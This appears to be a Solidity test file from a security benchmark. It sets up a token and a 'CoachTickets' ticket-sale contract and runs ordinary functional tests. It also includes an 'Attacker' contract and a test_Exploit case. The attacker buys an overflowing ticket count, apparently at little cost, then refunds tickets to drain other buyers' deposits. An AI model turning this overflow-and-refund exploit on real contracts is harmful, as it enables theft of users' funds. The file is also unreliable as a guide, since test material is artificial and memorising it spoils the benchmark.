// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./CoachTickets.sol";

// assay-canary-c3a01b61-a13f-4d88-b553-e0ddb48c1094

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Coin is ERC20("Coin", "COIN") {
    address private immutable minter = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        _mint(to, amount);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);

    Coin public coin;
    CoachTickets private coach;
    Attacker private mallory;

    function setUp() public {
        coin = new Coin();
        coach = new CoachTickets(coin);
        coach.open(20 ether);
        coach.open(35 ether);
        coin.mint(ANA, 5_000 ether);
        coin.mint(BEN, 5_000 ether);
        vm.startPrank(ANA);
        coin.approve(address(coach), 5_000 ether);
        coach.buy(0, 100);
        vm.stopPrank();
        vm.startPrank(BEN);
        coin.approve(address(coach), 5_000 ether);
        coach.buy(1, 20);
        vm.stopPrank();
        mallory = new Attacker(coach);
    }

    function test_Regular() public {
        require(coin.balanceOf(address(coach)) == 2_700 ether && coach.ticketsOf(0, ANA) == 100, "bought");
        vm.startPrank(ANA);
        coach.board(0, 30);
        coach.giveBack(0, 10);
        vm.stopPrank();
        require(coach.ticketsOf(0, ANA) == 60 && coin.balanceOf(ANA) == 3_180 ether, "given back");
        require(coach.earned() == 620 ether, "earned");
        coach.collect(address(0xCA), 500 ether);
        require(coin.balanceOf(address(0xCA)) == 500 ether && coach.earned() == 120 ether, "collected");
        uint256 line = coach.open(3);
        require(line == 2 && coach.lines() == 3 && coach.fareOf(2) == 3, "opened");
        vm.startPrank(BEN);
        coach.buy(2, 1);
        coach.giveBack(2, 1);
        require(coach.ticketsOf(2, BEN) == 0 && coach.earned() == 120 ether + 1, "a part is kept");
        coach.buy(0, 1);
        coach.board(1, 20);
        vm.stopPrank();
        require(coach.ticketsOf(0, BEN) == 1 && coach.ticketsOf(1, BEN) == 0, "boarded");
        coach.transferOwnership(ANA);
        vm.prank(ANA);
        coach.renounceOwnership();
    }

    function test_RefusesPurchases() public {
        vm.startPrank(ANA);
        vm.expectRevert(abi.encodeWithSelector(CoachTickets.NoSuchLine.selector, 2));
        coach.buy(2, 1);
        vm.expectRevert(CoachTickets.NoTickets.selector);
        coach.buy(0, 0);
        vm.stopPrank();
    }

    function test_RefusesTickets() public {
        vm.startPrank(ANA);
        vm.expectRevert(abi.encodeWithSelector(CoachTickets.TooFew.selector, 100, 101));
        coach.board(0, 101);
        vm.expectRevert(abi.encodeWithSelector(CoachTickets.TooFew.selector, 0, 1));
        coach.giveBack(1, 1);
        vm.stopPrank();
    }

    function test_RefusesStrangers() public {
        vm.prank(ANA);
        coach.board(0, 1);
        vm.startPrank(BEN);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BEN));
        coach.open(1);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BEN));
        coach.collect(BEN, 1);
        vm.stopPrank();
    }

    function test_RefusesOwners() public {
        vm.expectRevert(CoachTickets.NoFare.selector);
        coach.open(0);
        vm.prank(ANA);
        coach.board(0, 1);
        vm.expectRevert(abi.encodeWithSelector(CoachTickets.NotEarned.selector, 20 ether, 20 ether + 1));
        coach.collect(ANA, 20 ether + 1);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(coin.balanceOf(address(mallory)) >= 2_500 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(coach);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    CoachTickets private coach;

    constructor(CoachTickets coach_) {
        coach = coach_;
    }

    function run() external {
        coach.buy(0, type(uint256).max / 20 ether + 1);
        coach.giveBack(0, 150);
    }
}
